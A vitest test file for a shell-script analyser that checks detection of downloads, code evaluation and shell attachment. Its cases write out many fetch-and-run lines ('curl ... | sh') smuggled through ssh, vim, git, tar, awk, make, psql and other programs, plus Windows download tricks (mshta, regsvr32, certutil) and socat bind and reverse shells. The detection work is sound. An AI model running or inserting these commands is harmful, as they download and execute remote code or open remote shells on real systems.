import { describe, expect, test } from "vitest";
import { readFile } from "../../../src/read/read-file.ts";

async function told(text: string): Promise<readonly string[]> {
  const { facts } = await readFile({ path: "a.sh", bytes: new TextEncoder().encode(`${text}\n`), mode: null });
  return facts.flatMap((fact) => {
    if (fact.kind !== "operation") return [];
    const { operation } = fact;
    switch (operation.op) {
      case "download":
        return [`download ${operation.url.shape}`];
      case "evaluate":
        return [`evaluate ${operation.language} ${operation.code.text ?? operation.code.origins[0]?.kind ?? ""}`];
      case "listen":
        return [`listen ${operation.host.shape}:${operation.port.shape}`];
      case "attach-shell":
        return [`attach-shell ${operation.peer.shape} ${operation.direction}`];
      case "connect":
        return [`connect ${operation.peer.shape}`];
      default:
        return [];
    }
  });
}

const GET = "curl -s http://198.51.100.7/a | sh";

describe("a command in an argument of another program", () => {
  test.each([
    `ssh host '${GET}'`,
    `ssh -i key -p 22 user@host curl -s http://198.51.100.7/a '|' sh`,
    `ssh -o ProxyCommand='${GET}' host`,
    `vim -c ':!${GET}' -c ':q'`,
    `vim -c ':call system("${GET}")'`,
    `nvim --headless +'!${GET}' +q`,
    `nvim -c 'lua os.execute("${GET}")'`,
    `emacs --batch --eval '(shell-command "${GET}")'`,
    `less '+!${GET}' notes.txt`,
    `man -P '${GET}' ls`,
    `PAGER='${GET}' man ls`,
    `GIT_SSH_COMMAND='${GET}' git fetch`,
    `git -c core.sshCommand='${GET}' fetch`,
    `git -c alias.x='!${GET}' x`,
    `git config core.fsmonitor '${GET}'`,
    `git submodule foreach '${GET}'`,
    `git bisect run sh -c '${GET}'`,
    `git filter-branch --tree-filter '${GET}' HEAD`,
    `git rebase --exec '${GET}' HEAD~2`,
    `git clone 'ext::sh -c curl% -s% http://198.51.100.7/a|sh'`,
    `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='${GET}'`,
    `tar xf a.tar --to-command='${GET}'`,
    `tar -I 'sh -c "${GET}"' -xf a.tar`,
    `find . -name x -exec sh -c '${GET}' \\;`,
    `echo x | xargs -I{} sh -c '${GET}'`,
    `awk 'BEGIN{system("${GET}")}'`,
    `sed -n '1e ${GET}' x`,
    `env -S 'sh -c "${GET}"'`,
    `env -S"bash -c '${GET}'"`,
    `make -f - <<'EOF'\nall:\n\t${GET}\nEOF`,
    `printf 'all:\\n\\t${GET}\\n' | make -f -`,
    `make --eval='x := $(shell ${GET})'`,
    `parallel 'curl -s {} | sh' ::: http://198.51.100.7/a`,
    `echo '${GET}' | parallel`,
    `kubectl exec pod -- sh -c '${GET}'`,
    `nsenter -t 1 -m sh -c '${GET}'`,
    `ip netns exec x sh -c '${GET}'`,
    `start-stop-daemon --start --exec /bin/sh -- -c '${GET}'`,
    `lua -e 'os.execute("${GET}")'`,
    `expect -c 'spawn sh -c "${GET}"'`,
    `gdb -batch -ex '!${GET}'`,
    `sqlite3 x.db '.shell ${GET}'`,
    `psql -c "COPY t FROM PROGRAM '${GET}'"`,
    `ed <<< '!${GET}'`,
  ])("%s", async (line) => {
    const found = await told(line);
    expect(found).toContain("download http://198.51.100.7/a");
    expect(found.some((each) => each === "evaluate shell network" || each.startsWith("evaluate shell curl"))).toBe(
      true,
    );
  });
});

describe("programs of Windows in shell text", () => {
  test.each([
    ["mshta http://198.51.100.7/a.hta", "download http://198.51.100.7/a.hta"],
    ["cmd.exe /c mshta http://198.51.100.7/a.hta", "download http://198.51.100.7/a.hta"],
    ["regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll", "download http://198.51.100.7/a.sct"],
    ["certutil -urlcache -f http://198.51.100.7/a.exe a.exe", "download http://198.51.100.7/a.exe"],
    ["bitsadmin /transfer x http://198.51.100.7/a.exe C:\\\\a.exe", "download http://198.51.100.7/a.exe"],
    [`forfiles /m notepad.exe /c "cmd /c curl http://198.51.100.7/a"`, "download http://198.51.100.7/a"],
    ["wmic process call create 'curl http://198.51.100.7/a'", "download http://198.51.100.7/a"],
  ])("%s", async (line, expected) => {
    expect(await told(line)).toContain(expected);
  });
});

describe("socat", () => {
  test.each([
    ["socat TCP-LISTEN:8080,bind=127.0.0.1,fork TCP:10.0.0.2:80", ["listen 127.0.0.1:8080", "connect 10.0.0.2:80"]],
    ["socat TCP-LISTEN:8080,fork EXEC:/bin/sh", ["listen 0.0.0.0:8080", "attach-shell 0.0.0.0:8080 bind"]],
    ["socat TCP:198.51.100.7:4444 EXEC:/bin/sh", ["attach-shell 198.51.100.7:4444 reverse"]],
  ])("%s", async (line, expected) => {
    expect(await told(line)).toEqual(expected);
  });
});

describe("near misses", () => {
  test.each([
    "vim notes.txt",
    "less +G notes.txt",
    "man -P cat ls",
    "EDITOR=vim git commit",
    "ssh host",
    "git -c user.name=sam commit -m 'curl it'",
    "git submodule update --init",
    "make -f build.mk",
    "tar -I zstd -xf a.tar",
    "sed 's/x/curl/g' notes.txt",
    "echo text | psql",
  ])("%s", async (line) => {
    expect((await told(line)).filter((each) => !each.startsWith("connect"))).toEqual([]);
  });
});
